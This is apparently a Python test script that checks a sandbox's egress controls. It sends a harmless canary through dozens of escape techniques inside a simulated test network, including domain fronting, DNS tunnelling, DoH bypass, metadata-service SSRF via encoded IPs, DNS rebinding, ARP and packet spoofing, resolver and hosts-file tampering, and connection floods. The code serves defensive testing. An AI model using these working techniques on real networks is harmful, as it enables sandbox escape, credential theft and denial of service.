"""
Tries to get out as a hostile job would, and prints what came of each attempt as one JSON object a line.

Everything tried is harmless: what is sent is a canary, which a test looks for where it must not arrive. The addresses
are those of the test world (it/src/test/resources/world/plan.py) and lead nowhere else; names are its, too.

Usage: egress.py [--peer4 A] [--peer6 A] [--host A] [--port N] ATTEMPT...    attempts by name; "all" for every one
       egress.py list                          the names of all
       egress.py tell LABEL ADDRESS PORT TO PORT NAME    holds a connection, and tells over it what can still be opened
       egress.py listen                        answers on the sink's port, and reaches itself there
       egress.py outlive NAME PORT             keeps a connection for longer than the name's address may be used
       egress.py flood COUNT ADDRESS PORT      sends datagrams as fast as it can
       egress.py halfopen COUNT ADDRESS PORT   begins connections, and holds those that nothing comes of

An attempt beside those of the list: tcp:ADDRESS:PORT, udp:ADDRESS:PORT, tls:ADDRESS:NAME, https:NAME, dns:NAME:TYPE,
upload:ADDRESS:PORT:BYTES; more parts make them different. An IPv6 address is in brackets.

Beside the result a line tells what was last dialled and which name was asked for last. A result is CONNECTED where the attempt got what it wanted, or why it did not: an errno, an EAI_ error, a DNS response
code, EOF, TLS:ALERT, TIMEOUT.
"""

import argparse
import base64
import collections
import ctypes
import errno
import http.client
import ipaddress
import json
import os
import random
import re
import resource
import select
import signal
import socket
import ssl
import struct
import subprocess
import sys
import time
import urllib.error
import urllib.request

LIMIT = 5
LONGEST = 25
ALLOWED4 = "203.0.113.10"
DIRECT4, DIRECT6 = "203.0.113.12", "2001:db8:1::12"
ATTACKER4, ATTACKER6 = "203.0.113.66", "2001:db8:1::66"
DNS2_4, DNS2_6 = "203.0.113.54", "2001:db8:1::54"
DOH4 = "203.0.113.80"
OTHER4 = "203.0.113.21"
METADATA4, METADATA6 = "169.254.169.254", "fd00:ec2::254"
PRIVATE4, PRIVATE6 = "10.77.0.5", "fd00:77::5"
SIX_TO_FOUR, TEREDO, NAT64 = "2002:cb00:710c::1", "2001:0:cb00:710c::1", "64:ff9b::cb00:710c"
FOREIGN4, FOREIGN6 = "203.0.113.99", "2001:db8:1::99"
SECRET = "secret-of-the-metadata-service"
ECH_KEYS = b"an ECH configuration list"
TYPES = {"A": 1, "NULL": 10, "TXT": 16, "AAAA": 28, "HTTPS": 65, "AXFR": 252, "ANY": 255}
CODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
IPV6_FREEBIND = 78
CLONE_NEWUSER, CLONE_NEWNET = 0x10000000, 0x40000000

libc = ctypes.CDLL(None, use_errno=True)
attempts = {}
options = argparse.Namespace()
canary = ""
target = {}


class Refused(Exception):
    """An attempt that was answered, but not with what it wanted."""


def attempt(function):
    attempts[function.__name__.replace("_", "-").lstrip("-")] = function
    return function


# --- Ways to reach somebody ---------------------------------------------------------------------------------


def dial(address, port, kind=socket.SOCK_STREAM):
    family = socket.AF_INET6 if ":" in address else socket.AF_INET
    target.update(protocol="tcp" if kind == socket.SOCK_STREAM else "udp", address=plain(address), port=port)
    peer = socket.socket(family, kind)
    peer.settimeout(LIMIT)
    peer.connect(socket.getaddrinfo(address, port, family, kind, 0, socket.AI_NUMERICHOST)[0][4])
    return peer


def plain(address):
    """As a packet has it, which has no scope."""
    parsed = ipaddress.ip_address(address.partition("%")[0])
    return str(getattr(parsed, "ipv4_mapped", None) or parsed)


def exchange(peer, message=None):
    """Sends the canary and wants any answer."""
    with peer:
        peer.sendall(message or canary.encode())
        answer = peer.recv(65536)
        if not answer:
            raise EOFError
        return answer


def tcp(address, port):
    exchange(dial(address, port))


def udp(address, port):
    exchange(dial(address, port, socket.SOCK_DGRAM))


def resolve(name, family=socket.AF_INET):
    target["name"] = name
    return socket.getaddrinfo(name, 0, family, socket.SOCK_STREAM)[0][4][0]


def get(address, port=80, host="host", path="/"):
    """Plain HTTP; the body."""
    with dial(address, port) as peer:
        return request(peer.sendall, peer.recv, host, path)


def request(send, receive, host, path):
    send(f"GET {path}{canary} HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer or len(answer.partition(b"\r\n\r\n")[2]) < length_in(answer):
        piece = receive(65536)
        if not piece:
            raise EOFError
        answer += piece
    return answer.partition(b"\r\n\r\n")[2]


def length_in(answer):
    return int(re.search(rb"(?i)content-length: *(\d+)", answer)[1])


class Tls:
    """A TLS client whose ClientHello goes out as the caller likes it."""

    def __init__(self, peer, name, segment=0, mangle=None, version=None):
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        if version:
            context.maximum_version = version
        self.peer, self.segment, self.mangle = peer, segment, mangle
        self.incoming, self.outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        self.tls = context.wrap_bio(self.incoming, self.outgoing, server_hostname=name)
        peer.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def flush(self):
        data = self.outgoing.read()
        if self.mangle and data:
            data, self.mangle = self.mangle(data), None
        step = self.segment or len(data) or 1
        for at in range(0, len(data), step):
            self.peer.sendall(data[at:at + step])
        self.segment = 0

    def drive(self, action, *arguments):
        while True:
            try:
                result = action(*arguments)
                self.flush()
                return result
            except ssl.SSLWantReadError:
                self.flush()
                received = self.peer.recv(65536)
                if received:
                    self.incoming.write(received)
                else:
                    raise EOFError from None

    def get(self, host, path="/"):
        self.drive(self.tls.do_handshake)
        return request(lambda data: self.drive(self.tls.write, data), lambda size: self.drive(self.tls.read, size), host,
                       path)


def https(address, name, host=None, path="/", **how):
    """HTTPS to an address, with a server name or without; the body."""
    with dial(address, 443) as peer:
        return Tls(peer, name, **how).get(host or name or address, path)


def hello(address, name, mangle):
    """A ClientHello that no client could go on from; wants any TLS record that is no alert."""
    with dial(address, 443) as peer:
        client = Tls(peer, name, mangle=mangle)
        try:
            client.tls.do_handshake()
        except ssl.SSLWantReadError:
            client.flush()
        answer = peer.recv(65536)
        if not answer:
            raise EOFError
        if answer[0] != 22:
            raise Refused("TLS:ALERT")


def with_encrypted_hello(record):
    """The same ClientHello with the extension of RFC 9849, as it is sent outside."""
    body = record[9:]
    at = 34
    at += 1 + body[at]
    at += 2 + struct.unpack_from(">H", body, at)[0]
    at += 1 + body[at]
    inner = b"\0" + struct.pack(">HHB", 1, 1, 7) + struct.pack(">H", 32) + os.urandom(32) + struct.pack(">H", 128) + \
        os.urandom(128)
    extensions = struct.pack(">HH", 0xFE0D, len(inner)) + inner + body[at + 2:]
    body = body[:at] + struct.pack(">H", len(extensions)) + extensions
    return record[:3] + struct.pack(">H", len(body) + 4) + b"\1" + struct.pack(">I", len(body))[1:] + body


def in_small_records(record):
    """The same ClientHello in TLS records of 16 bytes."""
    body = record[5:]
    pieces = [body[at:at + 16] for at in range(0, len(body), 16)]
    return b"".join(record[:3] + struct.pack(">H", len(piece)) + piece for piece in pieces)


# --- Questions ----------------------------------------------------------------------------------------------


def question(name, kind):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack(">HHHHHH", random.getrandbits(16), 0x0100, 1, 0, 0, 1) + labels + b"\0" + \
        struct.pack(">HH", TYPES[kind], 1) + b"\0\0\x29\x10\0\0\0\0\0\0\0"


def framed(message):
    return struct.pack(">H", len(message)) + message


def told(reply, keys=None):
    """Refused, unless the reply has an answer (or, where keys are wanted, these bytes)."""
    _, flags, _, answers = struct.unpack_from(">HHHH", reply)
    if flags & 15:
        raise Refused(CODES.get(flags & 15, str(flags & 15)))
    if not answers or (keys and keys not in reply):
        raise Refused("NODATA")


def resolver():
    with open("/etc/resolv.conf") as lines:
        server = next((line.split()[1] for line in lines if line.startswith("nameserver")), None)
    if server is None:
        raise Refused("NO-RESOLVER")
    return server


def ask(name, kind, server=None, transport="udp", keys=None):
    """Asks a server, which is by default the one that the sandbox was given."""
    server = server or resolver()
    target["name"] = name
    message = question(name, kind)
    if transport == "udp":
        reply = exchange(dial(server, 53, socket.SOCK_DGRAM), message)
        if reply[2] & 2:
            return ask(name, kind, server, "tcp", keys)
    else:
        reply = exchange(dial(server, 53), framed(message))[2:]
    told(reply, keys)


def smuggled(zone):
    """The canary as a tunnel's client would put it into a name."""
    data = (canary * 8).encode().hex()
    return ".".join(data[at:at + 60] for at in range(0, 180, 60)) + "." + canary + "." + zone


def secret(address, port=80):
    """The metadata service's, by whichever way."""
    body = https(address, None, path="/latest/meta-data/") if port == 443 else get(address, port, path="/latest/meta-data/")
    if SECRET.encode() not in body:
        raise Refused("NOT-METADATA")


def secret_by_name(name, port=80, family=socket.AF_UNSPEC):
    """From any of the addresses that a name has."""
    failure = None
    target["name"] = name
    for found in socket.getaddrinfo(name, port, family, socket.SOCK_STREAM):
        try:
            return secret(found[4][0], port)
        except (OSError, Refused) as one:
            failure = one
    raise failure


# --- By address ---------------------------------------------------------------------------------------------


@attempt
def good():
    """No attack: what the policies allow, so that it is seen that anything works at all."""
    https(resolve("allowed.test"), "allowed.test")


@attempt
def good6():
    https(resolve("allowed.test", socket.AF_INET6), "allowed.test")


@attempt
def direct_ip():
    https(DIRECT4, None)


@attempt
def direct_ip_sni():
    """Domain fronting, first way: an allowed server name, the address of another."""
    https(OTHER4, "allowed.test")


@attempt
def direct_ip6():
    https(DIRECT6, None)


@attempt
def v4_mapped():
    https("::ffff:" + DIRECT4, None)


@attempt
def other_port():
    tcp(resolve("allowed.test"), 8443)


@attempt
def other_port6():
    tcp(resolve("allowed.test", socket.AF_INET6), 8443)


@attempt
def ssh_port():
    tcp(resolve("allowed.test"), 22)


@attempt
def attacker_port():
    tcp(ATTACKER4, 4444)


@attempt
def attacker_port6():
    tcp(ATTACKER6, 4444)


@attempt
def quic():
    udp(resolve("allowed.test"), 443)


@attempt
def quic6():
    udp(resolve("allowed.test", socket.AF_INET6), 443)


@attempt
def attacker_udp():
    udp(ATTACKER4, 4444)


@attempt
def link_local():
    tcp("fe80::1%" + link_device(), 4444)


@attempt
def six_to_four():
    https(SIX_TO_FOUR, None)


@attempt
def teredo():
    https(TEREDO, None)


@attempt
def nat64():
    https(NAT64, None)


@attempt
def metadata_ip():
    secret(METADATA4)


@attempt
def metadata_ip_443():
    secret(METADATA4, 443)


@attempt
def metadata_ip6():
    secret(METADATA6)


@attempt
def metadata_ip6_443():
    secret(METADATA6, 443)


def secret_by_form(form):
    secret(socket.getaddrinfo(form, 80, socket.AF_INET, socket.SOCK_STREAM)[0][4][0])


@attempt
def metadata_decimal():
    secret_by_form("2852039166")


@attempt
def metadata_octal():
    secret_by_form("0251.0376.0251.0376")


@attempt
def metadata_hex():
    secret_by_form("0xa9fea9fe")


@attempt
def metadata_mixed_form():
    secret_by_form("0xa9.0376.43518")


@attempt
def metadata_mapped_form():
    secret("::ffff:" + METADATA4)


@attempt
def metadata_redirect():
    """An allowed server sends the job's own client there."""
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    target.update(protocol="tcp", address=METADATA4, port=80)
    try:
        with opener.open("http://redirect.test/to-metadata/" + canary, timeout=LIMIT) as answer:
            if SECRET.encode() not in answer.read():
                raise Refused("NOT-METADATA")
    except urllib.error.URLError as failure:
        raise failure.reason


@attempt
def private_ip():
    https(PRIVATE4, None)


@attempt
def private_ip6():
    https(PRIVATE6, None)


@attempt
def host_address():
    tcp(options.host, options.port)


@attempt
def gateway_port():
    """The other end of the sandbox's link, but for the resolver's port."""
    with open("/proc/net/route") as routes:
        gateway = next((row.split()[2] for row in routes if row.split()[1:2] == ["00000000"]), None)
    if gateway is None:
        raise OSError(errno.ENETUNREACH, "")
    tcp(str(ipaddress.ip_address(struct.pack("<I", int(gateway, 16)))), options.port)


@attempt
def peer4():
    tcp(options.peer4, 4444)


@attempt
def peer6():
    tcp(options.peer6, 4444)


# --- By other protocols -------------------------------------------------------------------------------------


def ping(kind, address):
    family, protocol, number = (socket.AF_INET6, 58, 128) if ":" in address else (socket.AF_INET, 1, 8)
    message = struct.pack(">BBHHH", number, 0, 0, 1, 1) + canary.encode()
    if kind == socket.SOCK_RAW and family == socket.AF_INET:
        message = message[:2] + struct.pack(">H", checksum(message)) + message[4:]
    with socket.socket(family, kind, protocol) as peer:
        peer.settimeout(LIMIT)
        peer.connect((address, 0))
        peer.send(message)
        while canary.encode() not in peer.recv(65536):
            pass


def checksum(data):
    data += b"\0" * (len(data) % 2)
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    total = (total & 0xFFFF) + (total >> 16)
    return ~(total + (total >> 16)) & 0xFFFF


@attempt
def icmp_echo():
    ping(socket.SOCK_DGRAM, ATTACKER4)


@attempt
def icmp6_echo():
    ping(socket.SOCK_DGRAM, ATTACKER6)


@attempt
def icmp_raw():
    ping(socket.SOCK_RAW, ATTACKER4)


@attempt
def sctp():
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132)


@attempt
def dccp():
    socket.socket(socket.AF_INET, 6, 33)


@attempt
def udplite():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136)


@attempt
def mptcp():
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262)


def raw(protocol, payload, address=ATTACKER4):
    """A packet of any protocol. That it was sent is all that the sender can know."""
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, protocol) as sender:
        sender.settimeout(LIMIT)
        sender.connect((address, 0))
        sender.send(payload)
        # What refuses it tells so at once.
        if select.select([sender], [], [], 0.3)[0]:
            try:
                sender.recv(65536)
            except OSError as failure:
                # The destination itself has no such protocol: the packet has arrived.
                if failure.errno != errno.ENOPROTOOPT:
                    raise


def numbered(protocol):
    return struct.pack(">HH", 4444, 4444) + b"\1\0\0\x20" + bytes([protocol]) * 4 + canary.encode()


@attempt
def sctp_raw():
    raw(132, numbered(132))


@attempt
def dccp_raw():
    raw(33, numbered(33))


@attempt
def gre_raw():
    raw(47, canary.encode())


@attempt
def raw_unassigned():
    raw(253, canary.encode())


@attempt
def packet_socket():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3)).close()


# --- As somebody else ---------------------------------------------------------------------------------------


@attempt
def spoof_bound6():
    """An unprivileged way to be another, which IPv4 lacks: a bound address that is not the machine's."""
    with socket.socket(socket.AF_INET6, socket.SOCK_DGRAM) as sender:
        sender.setsockopt(socket.IPPROTO_IPV6, IPV6_FREEBIND, 1)
        sender.bind((FOREIGN6, 4444))
        sender.sendto(canary.encode(), (ATTACKER6, 4444))


def spoofed(source, to=ATTACKER4, port=4444):
    datagram = struct.pack(">HHHH", 4444, port, 8 + len(canary), 0) + canary.encode()
    head = struct.pack(">BBHHHBBH4s4s", 0x45, 0, 20 + len(datagram), 1, 0, 64, 17, 0, socket.inet_aton(source),
                       socket.inet_aton(to))
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as sender:
        sender.sendto(head + datagram, (to, 0))


@attempt
def spoof_raw():
    spoofed(FOREIGN4)


@attempt
def spoof_peer():
    """As a sandbox that may do more."""
    spoofed(options.peer4 or FOREIGN4)


def link_device():
    device = next((name for _, name in socket.if_nameindex() if name in ("eth0", "tj-job")), None)
    if device is None:
        raise OSError(errno.ENODEV, "")
    return device


@attempt
def arp_spoof():
    """Tells everybody on the link that the gateway, and the peer, are here."""
    device = link_device()
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0806)) as sender:
        sender.bind((device, 0))
        own = sender.getsockname()[4]
        for claimed in ("198.51.100.5", "198.19.0.1", options.peer4 or FOREIGN4):
            packed = socket.inet_aton(claimed)
            sender.send(b"\xff" * 6 + own + b"\x08\x06" + struct.pack(">HHBBH", 1, 0x0800, 6, 4, 2) + own + packed +
                        b"\xff" * 6 + packed)


@attempt
def nd_spoof():
    """The same by IPv6's neighbour advertisements."""
    with socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58) as sender:
        sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_HOPS, 255)
        sender.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_MULTICAST_LOOP, 0)
        for claimed in ("2001:db8:fffe::1", "fd6d:6179:666c:1::1", options.peer6 or FOREIGN6):
            message = struct.pack(">BBHI", 136, 0, 0, 0xA0000000) + socket.inet_pton(socket.AF_INET6, claimed)
            sender.sendto(message + b"\x02\x01" + b"\x02" * 6,
                          ("ff02::1", 0, 0, socket.if_nametoindex(link_device())))


# --- By name ------------------------------------------------------------------------------------------------


@attempt
def name_other():
    https(resolve("other.test"), "other.test")


@attempt
def metadata_name():
    secret_by_name("meta.rebind.test")


@attempt
def metadata_name_443():
    secret_by_name("meta.rebind.test", 443)


@attempt
def metadata_name6():
    secret_by_name("meta6.rebind.test")


@attempt
def metadata_name_mapped():
    secret_by_name("mapped.rebind.test", family=socket.AF_INET6)


@attempt
def metadata_name_alias():
    secret_by_name("away.allowed.test")


@attempt
def metadata_name_mixed():
    """One good address and one bad in one answer."""
    secret_by_name("mixed.rebind.test")


@attempt
def metadata_name_flipped():
    """A name that is public when it is looked at first."""
    name = canary + ".flip.rebind.test"
    end = time.monotonic() + 3
    resolve(name)
    while time.monotonic() < end:
        try:
            return secret(resolve(name))
        except Refused:
            time.sleep(0.2)
    raise Refused("NOT-METADATA")


@attempt
def private_name():
    tcp(resolve("db.private.test"), 5432)


@attempt
def private_name6():
    https(resolve("private6.rebind.test", socket.AF_INET6), None)


@attempt
def dns_udp_other():
    ask(canary + ".allowed.test", "A", DNS2_4)


@attempt
def dns_udp6_other():
    ask(canary + ".allowed.test", "A", DNS2_6)


@attempt
def dns_tcp_other():
    ask(canary + ".allowed.test", "A", DNS2_4, "tcp")


@attempt
def dns_tcp6_other():
    ask(canary + ".allowed.test", "A", DNS2_6, "tcp")


@attempt
def dot():
    with dial(DNS2_4, 853) as peer:
        client = Tls(peer, None)
        client.drive(client.tls.do_handshake)
        client.drive(client.tls.write, framed(question(canary + ".allowed.test", "A")))
        told(client.drive(client.tls.read, 65536)[2:])


def over_https(address, name):
    query = base64.urlsafe_b64encode(question(canary + ".allowed.test", "A")).decode().rstrip("=")
    with dial(address, 443) as peer:
        client = Tls(peer, name)
        client.drive(client.tls.do_handshake)
        client.drive(client.tls.write, f"GET /dns-query?dns={query} HTTP/1.1\r\nHost: {name}\r\n\r\n".encode())
        answer = client.drive(client.tls.read, 65536)
        told(answer.partition(b"\r\n\r\n")[2])


@attempt
def doh_ip():
    over_https(DOH4, None)


@attempt
def doh_lookalike():
    over_https(resolve("allowed.test.doh.test"), "allowed.test.doh.test")


@attempt
def doh_listed():
    """A resolver that everybody knows. Its name leads into the test world."""
    over_https(resolve("dns.google"), "dns.google")


@attempt
def doh_listed_fronted():
    over_https(resolve("allowed.test"), "dns.google")


@attempt
def tunnel_other():
    ask(smuggled("tunnel.test"), "A")


@attempt
def tunnel_other_tcp():
    ask(smuggled("tunnel.test"), "A", transport="tcp")


@attempt
def tunnel_other_txt():
    ask(smuggled("tunnel.test"), "TXT")


@attempt
def tunnel_other_null():
    ask(canary + ".tunnel.test", "NULL")


@attempt
def tunnel_allowed_null():
    ask(canary + ".allowed.test", "NULL")


@attempt
def tunnel_allowed_txt():
    ask("big.allowed.test", "TXT", keys=b"t" * 250)


@attempt
def tunnel_allowed():
    """Whoever answers for an allowed zone is allowed to be asked: this one can't be refused, only counted."""
    ask(canary + ".allowed.test", "A")


@attempt
def dns_any():
    ask("allowed.test", "ANY")


@attempt
def dns_axfr():
    ask("allowed.test", "AXFR", transport="tcp")


@attempt
def ech_keys():
    ask("ech.allowed.test", "HTTPS", keys=ECH_KEYS)


@attempt
def hint_metadata():
    ask("hint.rebind.test", "HTTPS", keys=socket.inet_aton(METADATA4))


# --- By TLS -------------------------------------------------------------------------------------------------


def cdn():
    """The address that an allowed name shares with another that is not."""
    return resolve("good.cdn.test")


@attempt
def cdn_good():
    https(cdn(), "good.cdn.test")


@attempt
def cdn_good_tls12():
    https(cdn(), "good.cdn.test", version=ssl.TLSVersion.TLSv1_2)


@attempt
def cdn_good_split():
    https(cdn(), "good.cdn.test", segment=1)


@attempt
def cdn_good_records():
    hello(cdn(), "good.cdn.test", in_small_records)


@attempt
def fronting_sni():
    """Domain fronting, second way: an allowed address, the server name of another."""
    https(cdn(), "evil.cdn.test")


@attempt
def fronting_cross():
    """Two allowed names, the address of one and the server name of the other."""
    resolve("allowed.test")
    https(cdn(), "allowed.test")


@attempt
def fronting_host():
    """The server name is the allowed one, and the request in it is for another: nobody on the way can see that."""
    https(cdn(), "good.cdn.test", host="evil.cdn.test")


@attempt
def no_sni():
    https(cdn(), None)


@attempt
def split_hello():
    https(cdn(), "evil.cdn.test", segment=1)


@attempt
def records_hello():
    hello(cdn(), "evil.cdn.test", in_small_records)


@attempt
def encrypted_hello():
    hello(cdn(), "good.cdn.test", with_encrypted_hello)


@attempt
def plain_on_443():
    """No TLS at all. The server hangs up then; what counts is whether the bytes get to it."""
    tcp(cdn(), 443)


# --- By changing the sandbox --------------------------------------------------------------------------------


def changed(path, content, action):
    """An action while a file is another one."""
    with open(path) as file:
        had = file.read()
    try:
        with open(path, "w") as file:
            file.write(content(had))
        action()
    finally:
        with open(path, "w") as file:
            file.write(had)


def resolved_by(server):
    target.update(protocol="udp", address=server, port=53)
    resolve(canary + ".allowed.test")


@attempt
def resolv_conf():
    changed("/etc/resolv.conf", lambda _: f"nameserver {DNS2_4}\noptions timeout:1 attempts:1\n",
            lambda: resolved_by(DNS2_4))


@attempt
def etc_hosts():
    changed("/etc/hosts", lambda had: f"{had}\n{OTHER4} fixed.allowed.test\n",
            lambda: https(resolve("fixed.allowed.test"), "fixed.allowed.test"))


def by_ip(*arguments):
    done = subprocess.run(["ip", *arguments], capture_output=True, text=True)
    if done.returncode:
        if "not permitted" in done.stderr:
            raise OSError(errno.EPERM, "")
        raise Refused(done.stderr.strip()[:80])


@attempt
def route_add():
    by_ip("route", "replace", "203.0.113.128/25", "dev", link_device())


@attempt
def address_add():
    by_ip("address", "replace", FOREIGN4 + "/32", "dev", link_device())


@attempt
def neighbour_add():
    by_ip("neighbour", "replace", FOREIGN4, "lladdr", "02:00:00:00:00:01", "dev", link_device())


@attempt
def proxy():
    """What the environment tells a client to use."""
    os.environ["http_proxy"] = f"http://{ATTACKER4}:3128"
    target.update(protocol="tcp", address=ATTACKER4, port=3128)
    try:
        urllib.request.urlopen("http://other.test/" + canary, timeout=LIMIT).close()
    except urllib.error.URLError as failure:
        raise failure.reason


@attempt
def namespaces():
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET):
        raise OSError(ctypes.get_errno(), "")


# --- Running them -------------------------------------------------------------------------------------------


def upload(address, port, size):
    left = int(size)
    with dial(address, port) as peer:
        peer.sendall(f"PUT /{canary} HTTP/1.1\r\nHost: h\r\nContent-Length: {left}\r\n\r\n".encode())
        while left:
            left -= peer.send(b"u" * min(left, 65536))
        if not peer.recv(65536):
            raise EOFError


def by_name_or_form(name):
    if name in attempts:
        return attempts[name]
    kind, *rest = re.findall(r"\[[^]]*]|[^:]+", name)
    rest = [part.strip("[]") for part in rest]
    forms = {
        "tcp": lambda: tcp(rest[0], int(rest[1])),
        "udp": lambda: udp(rest[0], int(rest[1])),
        "tls": lambda: https(rest[0], rest[1] if len(rest) > 1 else None),
        "https": lambda: https(resolve(rest[0]), rest[0]),
        "dns": lambda: ask(rest[0], rest[1]),
        "upload": lambda: upload(rest[0], int(rest[1]), rest[2]),
    }
    return forms[kind]


def outcome(action):
    try:
        action()
        return "CONNECTED"
    except Refused as refusal:
        return str(refusal)
    except (EOFError, http.client.RemoteDisconnected, http.client.IncompleteRead):
        return "EOF"
    except ssl.SSLEOFError:
        return "EOF"
    except ssl.SSLError as failure:
        return "TLS:" + str(failure.reason)
    except socket.gaierror as failure:
        return next((name for name in dir(socket) if name.startswith("EAI_") and getattr(socket, name) == failure.errno),
                    str(failure.errno))
    except TimeoutError as failure:
        return errno.errorcode.get(failure.errno, "TIMEOUT")
    except OSError as failure:
        return errno.errorcode.get(failure.errno, str(failure))


def in_child(name):
    """In a process of its own: some change it, and one that hangs must not be the last."""
    reader, writer = os.pipe()
    child = os.fork()
    if child == 0:
        signal.alarm(LONGEST)
        began = time.monotonic()
        said = outcome(by_name_or_form(name))
        os.write(writer, json.dumps([said, round((time.monotonic() - began) * 1000, 1), target]).encode())
        os._exit(0)
    os.close(writer)
    with os.fdopen(reader) as answer:
        said = answer.read()
    os.waitpid(child, 0)
    return json.loads(said) if said else ["TIMEOUT", LONGEST * 1000, {}]


def try_all(wanted):
    global canary
    for name in wanted:
        canary = "c" + os.urandom(8).hex()
        began = time.time()
        result, took, aimed = in_child(name)
        print(json.dumps({"attempt": name, "result": result, "ms": took, "canary": canary, "began": began,
                          "ended": time.time(), **aimed}), flush=True)


def tell(label, address, port, to, new_port, name):
    """Until the connection ends; then nobody can be told any more."""
    global canary
    canary = "longer than the header of a TLS record"
    with dial(address, int(port)) as held:
        for number in range(100000):
            new = outcome(lambda: tcp(to, int(new_port)))
            named = outcome(lambda: resolve(name.replace("*", f"n{number}")))
            line = json.dumps({"tick": number, "label": label, "connection": new, "name": named}) + "\n"
            held.sendall(line.encode())
            if not held.recv(65536):
                return
            if number == 0:
                print("telling", flush=True)
            time.sleep(0.25)


def outlive(name, port):
    global canary
    canary = "outlive"
    address = resolve(name)
    with dial(address, int(port)) as held:
        print("first CONNECTED", flush=True)
        end = time.monotonic() + 90
        while (later := outcome(lambda: tcp(address, int(port)))) == "CONNECTED" and time.monotonic() < end:
            time.sleep(0.2)
        print("later " + later, flush=True)

        def use():
            held.sendall(b"still there")
            if not held.recv(65536):
                raise EOFError
        print("established " + outcome(use), flush=True)
    print("again " + outcome(lambda: tcp(resolve(name), int(port))), flush=True)


def listen():
    family = {4: socket.AF_INET, 6: socket.AF_INET6}
    mine = {}
    for version, far in ((4, ATTACKER4), (6, ATTACKER6)):
        with socket.socket(family[version], socket.SOCK_DGRAM) as looking:
            looking.connect((far, 4444))
            mine[version] = looking.getsockname()[0]
    servers = [socket.create_server((address, 4444), family=family[version]) for version, address in mine.items()]
    if os.fork() == 0:
        while True:
            for server in select.select(servers, [], [])[0]:
                with server.accept()[0] as peer:
                    peer.sendall(peer.recv(65536) or b"-")
    global canary
    canary = "itself"
    reached = [outcome(lambda a=address: tcp(a, 4444)) for address in mine.values()]
    print(json.dumps({"address4": mine[4], "address6": mine[6], "itself": reached}), flush=True)
    print("listening", flush=True)
    sys.stdin.read()


def flood(count, address, port):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
        failed = collections.Counter()
        for _ in range(int(count)):
            try:
                sender.sendto(b"flood", (address, int(port)))
            except OSError as failure:
                failed[errno.errorcode[failure.errno]] += 1
    print(json.dumps({"sent": int(count) - sum(failed.values()), "failed": failed}), flush=True)


def begin(count, address, port):
    """Begins connections; those that nothing came of in some seconds, and how often what came of the others."""
    came, waiting, half_open = collections.Counter(), select.epoll(), {}
    for _ in range(count):
        try:
            peer = socket.socket()
            peer.setblocking(False)
            code = peer.connect_ex((address, port))
        except OSError as failure:
            code = failure.errno
        if code in (0, errno.EINPROGRESS, errno.ECONNREFUSED):
            came["begun"] += 1
        if code == errno.EINPROGRESS:
            half_open[peer.fileno()] = peer
            waiting.register(peer, select.EPOLLOUT)
        else:
            came[errno.errorcode.get(code, "CONNECTED")] += 1
    end = time.monotonic() + LIMIT
    while half_open and (left := end - time.monotonic()) > 0:
        for number, _ in waiting.poll(left):
            waiting.unregister(number)
            code = half_open.pop(number).getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
            came[errno.errorcode.get(code, "CONNECTED")] += 1
    came["open"] = len(half_open)
    return half_open, came


def halfopen(count, address, port):
    """In several processes, as one may not open so many files; holds those that stay open until its input ends."""
    _, most = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
    left, children, came = int(count), {}, collections.Counter(begun=0)
    while left:
        part = min(left, 2500, most - 100)
        left -= part
        reader, writer = os.pipe()
        child = os.fork()
        if child == 0:
            held, mine = begin(part, address, int(port))
            os.write(writer, json.dumps(mine).encode())
            os.close(writer)
            while held is not None:
                signal.pause()
        os.close(writer)
        children[child] = reader
    for reader in children.values():
        with os.fdopen(reader) as answer:
            came.update(json.load(answer))
    print(json.dumps(came), flush=True)
    sys.stdin.read()
    for child in children:
        os.kill(child, signal.SIGKILL)
        os.waitpid(child, 0)


MODES = {"tell": tell, "listen": listen, "outlive": outlive, "flood": flood, "halfopen": halfopen}


def main():
    global options
    if sys.argv[1:2] == ["list"]:
        print("\n".join(attempts))
    elif sys.argv[1:2] and sys.argv[1] in MODES:
        MODES[sys.argv[1]](*sys.argv[2:])
    else:
        parser = argparse.ArgumentParser()
        parser.add_argument("--peer4", default="203.0.113.66")
        parser.add_argument("--peer6", default="2001:db8:1::66")
        parser.add_argument("--host", default="198.51.100.5")
        parser.add_argument("--port", type=int, default=8443)
        parser.add_argument("attempts", nargs="+")
        options = parser.parse_args()
        try_all(list(attempts) if options.attempts == ["all"] else options.attempts)


main()
